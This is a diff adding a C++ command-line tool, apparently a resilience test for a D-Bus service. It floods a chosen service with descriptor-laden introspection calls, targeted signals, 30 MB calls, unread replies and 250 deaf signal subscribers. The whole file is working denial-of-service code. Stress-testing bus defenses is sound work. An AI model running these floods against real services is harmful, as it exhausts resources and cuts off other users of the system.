@@ -1,0 +1,173 @@
+// What somebody who has a login can do to a service over the bus.
+// usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD
+//   descriptors  introspection that carries 16 file descriptors each, behind 2,000 calls that keep the
+//   service
+//                busy; no reply is ever read
+//   signals      signals to the service alone, with 16 file descriptors each
+//   large        calls of 30 MB each
+//   calls        calls without a break, whose replies are never read
+//   pending      calls without a break, whose replies are read
+//   deaf         250 connections that ask for all signals and read nothing
+// A service under attack may be gone, and the bus may end connections: neither is this program's
+// failure. It prints what it sent, and how many connections the bus ended.
+#include "bus.h"
+
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <fcntl.h>
+#include <functional>
+#include <map>
+#include <memory>
+#include <string>
+#include <thread>
+#include <vector>
+
+namespace
+{
+const int descriptorsPerMessage = 16;
+/** What may wait in this process before it is written, in bytes. */
+const long backlog = 1 << 20;
+
+struct Attack {
+    Method method;
+    double end;
+    long sent = 0;
+    int connections = 0;
+
+    bool isOver() const { return now() >= end; }
+};
+
+void appendDescriptors(const Message &message)
+{
+    static const int descriptor = open("/dev/null", O_RDONLY | O_CLOEXEC);
+    for (int count = 0; count < descriptorsPerMessage; ++count)
+        dbus_message_append_args(message.get(), DBUS_TYPE_UNIX_FD, &descriptor, DBUS_TYPE_INVALID);
+}
+
+Message newIntrospect(const Method &method)
+{
+    return newCall({method.service, method.path, DBUS_INTERFACE_INTROSPECTABLE, "Introspect"});
+}
+
+/** Runs @p body on one connection after the other until the time is over. */
+void onConnections(Attack &attack, const std::function<void(Bus &)> &body)
+{
+    while (!attack.isOver()) {
+        Bus bus;
+        ++attack.connections;
+        body(bus);
+    }
+}
+
+/** Sends what @p make makes until the time is over or the bus ends the connection. */
+void sendOn(Bus &bus, Attack &attack, const std::function<Message()> &make)
+{
+    while (!attack.isOver() && bus.isConnected()) {
+        bus.send(make());
+        bus.drain(backlog, attack.end);
+        ++attack.sent;
+    }
+}
+
+void sendDescriptors(Attack &attack)
+{
+    onConnections(attack, [&attack](Bus &bus) {
+        bus.stopReading();
+        for (int count = 0; count < 2000; ++count)
+            bus.send(newIntrospect(attack.method));
+        bus.drain(0, attack.end);
+        sendOn(bus, attack, [&attack] {
+            Message message = newIntrospect(attack.method);
+            dbus_message_set_no_reply(message.get(), TRUE);
+            appendDescriptors(message);
+            return message;
+        });
+    });
+}
+
+void sendSignals(Attack &attack)
+{
+    onConnections(attack, [&attack](Bus &bus) {
+        sendOn(bus, attack, [&attack] {
+            const Method &method = attack.method;
+            Message message(dbus_message_new_signal(method.path.c_str(), method.interface.c_str(),
+                                                    method.name.c_str()));
+            dbus_message_set_destination(message.get(), method.service.c_str());
+            appendDescriptors(message);
+            return message;
+        });
+    });
+}
+
+void sendLargeCalls(Attack &attack)
+{
+    const std::vector<unsigned char> bytes(30 << 20, 'x');
+    onConnections(attack, [&](Bus &bus) {
+        sendOn(bus, attack, [&] {
+            Message message = newCall(attack.method);
+            const unsigned char *data = bytes.data();
+            dbus_message_append_args(message.get(), DBUS_TYPE_ARRAY, DBUS_TYPE_BYTE, &data,
+                                     static_cast<int>(bytes.size()), DBUS_TYPE_INVALID);
+            return message;
+        });
+    });
+}
+
+void sendUnread(Attack &attack)
+{
+    onConnections(attack, [&attack](Bus &bus) {
+        bus.stopReading();
+        sendOn(bus, attack, [&attack] { return newIntrospect(attack.method); });
+    });
+}
+
+void sendRead(Attack &attack)
+{
+    onConnections(attack, [&attack](Bus &bus) {
+        while (!attack.isOver() && bus.isConnected()) {
+            bus.send(newCall(attack.method));
+            bus.drain(backlog, attack.end);
+            ++attack.sent;
+            while (bus.next(0)) {
+            }
+        }
+    });
+}
+
+void subscribeDeaf(Attack &attack)
+{
+    std::vector<std::unique_ptr<Bus>> buses;
+    while (!attack.isOver() && buses.size() < 250) {
+        buses.push_back(std::make_unique<Bus>());
+        ++attack.connections;
+        Message rule =
+            newCall({DBUS_SERVICE_DBUS, DBUS_PATH_DBUS, DBUS_INTERFACE_DBUS, "AddMatch"});
+        const char *text = "type='signal'";
+        dbus_message_append_args(rule.get(), DBUS_TYPE_STRING, &text, DBUS_TYPE_INVALID);
+        buses.back()->send(rule);
+        buses.back()->drain(0, attack.end);
+        buses.back()->stopReading();
+        ++attack.sent;
+    }
+    while (!attack.isOver())
+        std::this_thread::sleep_for(std::chrono::milliseconds(100));
+}
+} // namespace
+
+int main(int argc, char *argv[])
+{
+    const std::map<std::string, void (*)(Attack &)> kinds = {
+        {"descriptors", sendDescriptors},
+        {"signals", sendSignals},
+        {"large", sendLargeCalls},
+        {"calls", sendUnread},
+        {"pending", sendRead},
+        {"deaf", subscribeDeaf},
+    };
+    if (argc != 7 || kinds.count(argv[1]) == 0)
+        fail("usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD");
+    Attack attack = {{argv[3], argv[4], argv[5], argv[6]}, now() + std::atof(argv[2])};
+    kinds.at(argv[1])(attack);
+    std::printf("sent %ld over %d connections\n", attack.sent, attack.connections);
+}
